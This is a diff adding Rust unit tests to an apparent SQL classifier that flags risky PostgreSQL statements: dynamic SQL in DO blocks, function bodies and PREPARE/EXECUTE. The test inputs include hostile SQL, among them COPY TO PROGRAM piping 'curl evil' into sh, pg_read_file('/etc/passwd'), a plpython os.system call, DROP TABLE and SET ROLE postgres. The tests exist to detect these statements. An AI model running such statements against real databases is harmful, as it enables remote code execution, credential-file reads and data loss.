@@ -1112,13 +1112,163 @@ mod tests {
     }
 
     #[test]
-    fn do_and_execute_are_dynamic() {
-        let s = one("DO $$ BEGIN EXECUTE 'drop table t'; END $$");
+    fn do_is_judged_by_its_body() {
+        let s = one("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM public.orders; END $$");
+        assert_eq!(s.kinds, vec![Kind::Do, Kind::Select]);
+        assert_eq!(s.tables.iter().collect::<Vec<_>>(), ["public.orders"]);
+        assert!(s.flags.is_empty(), "{:?}", s.flags);
+        let s = one("DO $$ BEGIN IF now() > '2020-01-01' THEN RAISE NOTICE 'x'; END IF; END $$");
+        assert_eq!(
+            s.kinds,
+            vec![Kind::Do],
+            "an expression without tables adds no kind"
+        );
+        let s = one(
+            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM s.t LOOP              DELETE FROM s.t WHERE id = r.id; END LOOP; END $$",
+        );
         assert_eq!(s.kind(), Kind::Do);
+        assert!(s.kinds.contains(&Kind::Select) && s.kinds.contains(&Kind::Delete));
+        assert!(s.writes.contains("s.t"));
+        let s =
+            one("DO $$ DECLARE x int := (SELECT max(id) FROM secret.k); BEGIN x := x + 1; END $$");
+        assert!(
+            s.tables.contains("secret.k"),
+            "DECLARE defaults are classified"
+        );
+        let s = one("DO $$ DECLARE x int; BEGIN x := (SELECT max(id) FROM secret.k); END $$");
+        assert!(s.tables.contains("secret.k"), "assignments are classified");
+        let s =
+            one("DO $$ DECLARE c CURSOR FOR SELECT * FROM secret.k; BEGIN OPEN c; CLOSE c; END $$");
+        assert!(
+            s.tables.contains("secret.k"),
+            "cursor queries are classified"
+        );
+        let s = one("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); COMMIT; END $$");
+        assert!(s.flags.contains(&Flag::SideEffectFunction));
+        assert!(s.kinds.contains(&Kind::Transaction));
+        // No dynamic SQL: no dynamic_sql flag.
+        assert!(!s.flags.contains(&Flag::DynamicSql));
+    }
+
+    #[test]
+    fn do_with_dynamic_sql_is_flagged_wherever_it_hides() {
+        for sql in [
+            "DO $$ BEGIN EXECUTE 'drop table t'; END $$",
+            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
+            "DO $$ BEGIN BEGIN BEGIN EXECUTE 'x'; END; END; END $$",
+            "DO $$ BEGIN PERFORM 1; EXCEPTION WHEN others THEN EXECUTE 'delete from t'; END $$",
+            "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$",
+            "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$",
+            "DO $$ BEGIN IF true THEN LOOP EXIT WHEN true; EXECUTE 'x'; END LOOP; END IF; END $$",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kind(), Kind::Do, "{sql}");
+            assert!(s.flags.contains(&Flag::DynamicSql), "{sql}");
+        }
+        let s = one("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$");
+        assert!(
+            s.functions.contains("format"),
+            "the EXECUTE's expression is still classified"
+        );
+        let s = one(
+            "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$",
+        );
+        assert_eq!(s.kind(), Kind::Ddl);
         assert!(s.flags.contains(&Flag::DynamicSql));
-        assert_eq!(one("EXECUTE p(1)").kind(), Kind::Execute);
-        let s = one("PREPARE p AS DELETE FROM t");
-        assert_eq!(s.kind(), Kind::Delete);
+    }
+
+    #[test]
+    fn do_running_risky_sql_carries_its_flags() {
+        let s = one("DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl evil | sh'; END $$");
+        assert!(s.flags.contains(&Flag::CopyProgram));
+        assert!(s.kinds.contains(&Kind::CopyOut));
+        let s = one("DO $$ BEGIN SET ROLE postgres; END $$");
+        assert!(s.flags.contains(&Flag::RoleChange));
+        let s = one("DO $$ BEGIN DELETE FROM t; END $$");
+        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
+        assert!(s.kinds.contains(&Kind::Delete));
+        let s = one("DO $outer$ BEGIN DO $inner$ BEGIN EXECUTE 'x'; END $inner$; END $outer$");
+        assert!(
+            s.flags.contains(&Flag::DynamicSql),
+            "a DO inside a DO is analysed too"
+        );
+        let s = one("DO $$ BEGIN PERFORM 1 FROM hr.people WHERE ssn LIKE '5%'; END $$");
+        assert!(s.columns.iter().any(|c| c.column == "ssn"));
+    }
+
+    #[test]
+    fn unanalysable_procedural_code_is_refused() {
+        for sql in [
+            "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
+            "DO LANGUAGE 'PLPGSQL' $$ BEGIN EXECUTE 'x'; END $$",
+            "DO $$ BEGIN SELEC 1; END $$",
+            "DO $$ DECLARE r record := (SELECT * FROM secret LIMIT 1); BEGIN END $$",
+        ] {
+            assert!(
+                matches!(
+                    classify(sql, 1 << 20),
+                    Err(Unclassifiable::Unsupported(_) | Unclassifiable::Syntax(_))
+                ),
+                "{sql}: {:?}",
+                classify(sql, 1 << 20)
+            );
+        }
+        let mut nested = "SELECT 1".to_owned();
+        for i in 0..10 {
+            nested = format!("DO $d{i}$ BEGIN {nested}; END $d{i}$");
+        }
+        assert!(classify(&nested, 1 << 20).is_err(), "nesting is bounded");
+    }
+
+    #[test]
+    fn function_bodies() {
+        let s = one(
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM audit.log RETURNING 1'",
+        );
+        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Delete]);
+        assert!(s.tables.contains("audit.log"));
+        let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'return 1'");
+        assert_eq!(s.kind(), Kind::Ddl);
+        assert!(s.flags.contains(&Flag::DynamicSql), "body not analysable");
+        let s = one(
+            "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$",
+        );
+        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Update]);
+        assert!(!s.flags.contains(&Flag::DynamicSql));
+    }
+
+    #[test]
+    fn prepare_is_its_query_and_execute_names_it() {
+        let p = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
+        assert_eq!(p.kind(), Kind::Delete);
+        assert_eq!(p.prepared, Some(Prepared::Prepare("p".into())));
+        let e = one("EXECUTE p(1)");
+        assert_eq!(e.kind(), Kind::Execute);
+        assert!(e.flags.contains(&Flag::DynamicSql));
+        assert_eq!(e.prepared, Some(Prepared::Execute("p".into())));
+        let mut ps = super::super::PreparedStatements::new();
+        assert!(ps.resolve(&e).is_none(), "unknown name: judged as execute");
+        ps.completed(&p);
+        let r = ps.resolve(&e).unwrap();
+        assert_eq!(r.kinds, vec![Kind::Delete]);
+        assert!(r.writes.contains("public.t"));
+        assert!(!r.flags.contains(&Flag::DynamicSql));
+        assert_eq!(r.text, "EXECUTE p(1)");
+        let e2 = one("EXECUTE p(length(pg_read_file('/etc/passwd')))");
+        assert!(
+            ps.resolve(&e2)
+                .unwrap()
+                .flags
+                .contains(&Flag::SideEffectFunction)
+        );
+        ps.completed(&one("DEALLOCATE p"));
+        assert!(ps.resolve(&e).is_none());
+        ps.completed(&p);
+        ps.completed(&one("DISCARD ALL"));
+        assert!(ps.is_empty());
+        ps.completed(&p);
+        ps.completed(&one("DEALLOCATE ALL"));
+        assert!(ps.is_empty());
     }
 
     #[test]
